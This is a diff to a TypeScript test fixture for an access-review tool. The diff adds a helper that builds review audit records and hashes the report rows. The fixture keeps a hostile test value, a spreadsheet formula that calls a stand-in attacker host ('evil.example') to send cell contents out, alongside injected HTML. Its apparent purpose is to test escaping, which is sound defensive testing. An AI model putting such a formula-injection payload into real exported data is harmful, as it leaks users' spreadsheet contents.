@@ -3,12 +3,13 @@
 // the access report the real merge (src/plan/access.ts) makes of them. Reviews, patches, evidence
 // and HTML are tested on it without a backend.
 import type { AccessReading, AccessReport, ActualAccess, AccessHolder } from '../../src/model/access.js';
-import type { Review, ReviewEvidence, ReviewVerdict } from '../../src/model/review.js';
+import type { AuditRecord, Review, ReviewEvidence, ReviewVerdict } from '../../src/model/review.js';
 import { accessReport } from '../../src/plan/access.js';
 import { isSelfDecision, reviewEvidence } from '../../src/plan/review.js';
 import { parseSpec } from '../../src/spec/load.js';
 import type { Spec } from '../../src/spec/schema.js';
-import { sha256 } from '../../src/core/canonical.js';
+import { hashJson, sha256 } from '../../src/core/canonical.js';
+import { decisionDetail, startDetail } from '../../src/plan/review-audit.js';
 
 export const NOW = new Date('2026-12-01T00:00:00.000Z');
 
@@ -132,7 +133,7 @@ export function fixtureReview(decisions: [string, string, string, ReviewVerdict,
       specSha256: report.specHash,
       auditHead: { seq: 9, hash: 'f'.repeat(64) },
       datagrantVersion: '0.1.0',
-      populationSha256: 'e'.repeat(64),
+      populationSha256: hashJson(report.rows),
       limits: report.limits,
       invariants: report.invariants,
       requests: report.requests,
@@ -158,6 +159,25 @@ export function fixtureReview(decisions: [string, string, string, ReviewVerdict,
     closedAt: null,
     closedBy: null,
   };
+}
+
+/** The audit entries a review's own writes made: its start (#10) and each standing decision (at its seq). */
+export function reviewEntries(review: Review): AuditRecord[] {
+  const address = `review/${review.name}`;
+  const hash = (seq: number) => String(seq).padStart(64, '0');
+  return [
+    { seq: 10, at: review.startedAt, actor: review.startedBy, event: 'review.start', address, outcome: 'ok', detail: startDetail(review), hash: hash(10) },
+    ...review.decisions.map((d) => ({
+      seq: d.auditSeq,
+      at: d.decidedAt,
+      actor: d.actor,
+      event: 'review.decide',
+      address,
+      outcome: d.decision,
+      detail: decisionDetail(d),
+      hash: hash(d.auditSeq),
+    })),
+  ].sort((a, b) => a.seq - b.seq);
 }
 
 /** A holder name as hostile as a PostgreSQL role name may be. */
@@ -189,16 +209,7 @@ export function hostileEvidence(): ReviewEvidence {
   review.decisions[0]!.reason = `=HYPERLINK("http://evil.example/?"&A1,"x") <b>no longer on the team</b>`;
   const fresh = fixtureReport({ readings: fixtureReadings({ hostile: HOSTILE, without: (a) => a.holder.name === 'alice' && a.backend === 'aws' }) });
   const entries = [
-    {
-      seq: 10,
-      at: '2026-12-01T00:00:00.000Z',
-      actor: 'carol@cli',
-      event: 'review.start',
-      address: 'review/2026-Q4',
-      outcome: 'ok',
-      detail: null,
-      hash: 'a'.repeat(64),
-    },
+    ...reviewEntries(review),
     {
       seq: 20,
       at: '2026-12-03T10:00:00.000Z',
